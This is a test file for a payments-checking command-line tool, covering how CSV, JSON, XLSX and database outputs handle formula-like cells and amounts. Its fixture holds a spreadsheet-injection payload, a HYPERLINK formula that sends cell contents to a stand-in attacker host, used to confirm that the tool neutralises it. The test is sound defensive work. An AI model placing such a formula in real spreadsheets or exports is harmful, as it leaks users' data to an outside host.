/**
 * What `payments check` writes where a spreadsheet may open it: formula cells from the file
 * (`=`, `+`, `-`, `@`) neutralised in --csv and in the rows kept for BI, kept exact in --json
 * (data for programs), text cells (never formulas) in --xlsx; amounts as numbers in the
 * currency's decimals; the batch recorded with who checked it. A real database, the command as
 * a subprocess.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FILLS } from "../../src/formats/write/xlsx-writer.ts";
import { runCli } from "../helpers/cli.ts";
import { createTestDatabase, type TestDatabase } from "../helpers/db.ts";
import { account, daysAgo, seedRecord, taxBase, watch, writeBatch } from "./fixtures.ts";

let test: TestDatabase;
let dir: string;
let env: Record<string, string>;
let file: string;
const payee = { taxId: taxBase(1_234_001), account: account(1) };
const other = { taxId: taxBase(1_234_002), account: account(2) };
const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"invoice")';

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), "regwatch-outputs-"));
  test = await createTestDatabase();
  env = { DATABASE_URL: test.url };
  await seedRecord(test.db.sql, payee.taxId, [payee.account], daysAgo(40));
  await seedRecord(test.db.sql, other.taxId, [other.account], daysAgo(40));
  await watch(test.db.sql, "k1", payee.taxId, other.taxId);
  file = await writeBatch(dir, "formulas.csv", [
    "Adószám;Kedvezményezett neve;Számlaszám;Összeg;Pénznem;Közlemény",
    `${payee.taxId};Supplier ${payee.taxId} Kft.;${payee.account};"1.250.000,50";HUF;"${HYPERLINK.replace(/"/g, '""')}"`,
    `${other.taxId};@SUM(A1:A9);${other.account};-1250;HUF;+36 1 234 5678`,
    `-2+3;Supplier;${other.account};12.500;HUF;-ref`,
    `${other.taxId};Supplier ${other.taxId} Kft.;${other.account};"1,5";EUR;ok`,
  ]);
}, 120_000);

afterAll(async () => {
  await test?.drop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe("formula cells and amounts in every output", () => {
  it("--csv neutralises text cells and keeps a negative amount a number", async () => {
    const result = await runCli(["payments", "check", file, "--csv"], env);
    expect(result.stderr).toBe("");
    expect(result.code).toBe(2);
    const lines = result.stdout.trimEnd().split("\n");
    expect(lines).toHaveLength(5);
    expect(lines[1]).toMatch(/^2,ok,/);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""invoice"")"`);
    expect(lines[1]).toContain(",1250000.5,HUF,");
    expect(lines[2]).toMatch(/^3,name_mismatch,/);
    expect(lines[2]).toContain(",'@SUM(A1:A9),-1250,HUF,'+36 1 234 5678,");
    expect(lines[3]).toMatch(/^4,invalid_tax_id,.*,'-2\+3,/);
    expect(lines[3]).toContain(",'-ref,");
    // Nothing in the CSV starts a cell with a formula character unless it is a plain number.
    for (const line of lines) {
      for (const cell of line.split(",")) expect(cell).not.toMatch(/^"?[=+@]/);
    }
  });

  it("--json keeps what the file says exactly", async () => {
    const result = await runCli(["payments", "check", file, "--json"], env);
    expect(result.code).toBe(2);
    const report = JSON.parse(result.stdout) as {
      rows: Array<Record<string, unknown>>;
      totals: unknown[];
      counts: Record<string, number>;
    };
    expect(report.rows.map((r) => [r.line, r.verdict, r.reference])).toEqual([
      [2, "ok", HYPERLINK],
      [3, "name_mismatch", "+36 1 234 5678"],
      [4, "invalid_tax_id", "-ref"],
      [5, "ok", "ok"],
    ]);
    expect(report.rows[1]).toMatchObject({ name: "@SUM(A1:A9)", amount: "-1250" });
    expect(report.totals).toEqual([
      { currency: "EUR", amount: "1.50", rows: 1, held: "0.00", held_rows: 0 },
      { currency: "HUF", amount: "1261250.50", rows: 3, held: "11250.00", held_rows: 2 },
    ]);
  });

  it("--xlsx writes text cells, amounts as numbers, coloured verdicts and a totals sheet", async () => {
    const out = path.join(dir, "out.xlsx");
    const result = await runCli(["payments", "check", file, "--xlsx", out], env);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`workbook written to ${out}`);
    expect(result.stdout).toContain("HOLD: 2 payment(s) flagged");
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    const sheet = book.getWorksheet("payments")!;
    expect(sheet.rowCount).toBe(5);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const col = (name: string) => header.indexOf(name) + 1;
    const reference = sheet.getRow(2).getCell(col("reference"));
    expect(reference.type).toBe(ExcelJS.ValueType.String);
    expect(reference.value).toBe(HYPERLINK);
    expect(sheet.getRow(3).getCell(col("name (file)")).value).toBe("@SUM(A1:A9)");
    const amount = sheet.getRow(2).getCell(col("amount"));
    expect(amount.value).toBe(1250000.5);
    expect(amount.numFmt).toBe("#,##0.00");
    expect(sheet.getRow(3).getCell(col("amount")).value).toBe(-1250);
    expect(sheet.getRow(2).getCell(col("verdict")).fill).toMatchObject({
      fgColor: { argb: `FF${FILLS.green}` },
    });
    expect(sheet.getRow(3).getCell(col("verdict")).fill).toMatchObject({
      fgColor: { argb: `FF${FILLS.red}` },
    });
    const totals = book.getWorksheet("totals")!;
    expect((totals.getRow(3).values as unknown[]).slice(1)).toEqual(["HUF", 1261250.5, 3, 11250, 2]);
    expect(totals.getRow(3).getCell(2).numFmt).toBe("#,##0.00");
  });

  it("--record keeps formula-like text neutralised for BI tools", async () => {
    const result = await runCli(["payments", "check", file, "--record", "--by", "=Kiss Anna", "--json"], env);
    expect(result.code).toBe(2);
    const batchId = (JSON.parse(result.stdout) as { batch_id: string }).batch_id;
    const rows = await test.db.sql`
      select line, tax_id, name, reference, amount::text, amount_raw from regwatch.payment_checks
      where batch_id = ${batchId} order by line`;
    expect(rows).toEqual([
      {
        line: 2,
        tax_id: payee.taxId,
        name: `Supplier ${payee.taxId} Kft.`,
        reference: `'${HYPERLINK}`,
        amount: "1250000.5",
        amount_raw: "1.250.000,50",
      },
      {
        line: 3,
        tax_id: other.taxId,
        name: "'@SUM(A1:A9)",
        reference: "'+36 1 234 5678",
        amount: "-1250",
        amount_raw: "-1250",
      },
      {
        line: 4,
        tax_id: "'-2+3",
        name: "Supplier",
        reference: "'-ref",
        amount: "12500",
        amount_raw: "12.500",
      },
      {
        line: 5,
        tax_id: other.taxId,
        name: `Supplier ${other.taxId} Kft.`,
        reference: "ok",
        amount: "1.5",
        amount_raw: "1,5",
      },
    ]);
    const [batch] = await test.db.sql`
      select checked_by, file_name, row_count, held_count from regwatch.payment_batches where id = ${batchId}`;
    expect(batch).toEqual({
      checked_by: "'=Kiss Anna",
      file_name: "formulas.csv",
      row_count: 4,
      held_count: 2,
    });
  });

  it("says who checked with --by, and keeps the totals of the batch", async () => {
    const [a, b] = [payee, other];
    const file = await writeBatch(dir, "by.csv", [
      "tax_id;bank_account;amount;currency",
      `${a.taxId};${a.account};"1.250.000,50";HUF`,
      `${b.taxId};${a.account};12.500;HUF`,
      `${a.taxId};${a.account};"1,250.5";EUR`,
    ]);
    const result = await runCli(["payments", "check", file, "--record", "--by", "Kiss Anna", "--csv"], env);
    expect(result.code).toBe(2);
    const batchId = /recorded as batch (\S+)/.exec(result.stderr)?.[1];
    const [kept] = await test.db.sql`
      select checked_by, row_count, held_count, totals from regwatch.payment_batches where id = ${batchId!}`;
    expect(kept).toEqual({
      checked_by: "Kiss Anna",
      row_count: 3,
      held_count: 1,
      totals: [
        { currency: "EUR", amount: "1250.50", rows: 1, held: "0.00", held_rows: 0 },
        { currency: "HUF", amount: "1262500.50", rows: 2, held: "12500.00", held_rows: 1 },
      ],
    });
    const stored = await test.db.sql`
      select amount::text, amount_raw, currency from regwatch.payment_checks where batch_id = ${batchId!} order by line`;
    expect(stored).toEqual([
      { amount: "1250000.5", amount_raw: "1.250.000,50", currency: "HUF" },
      { amount: "12500", amount_raw: "12.500", currency: "HUF" },
      { amount: "1250.5", amount_raw: "1,250.5", currency: "EUR" },
    ]);

    const noRecord = await runCli(["payments", "check", file, "--by", "Kiss Anna"], env);
    expect(noRecord.code).toBe(64);
    expect(noRecord.stderr).toContain("--by is kept only with --record");
  });
});
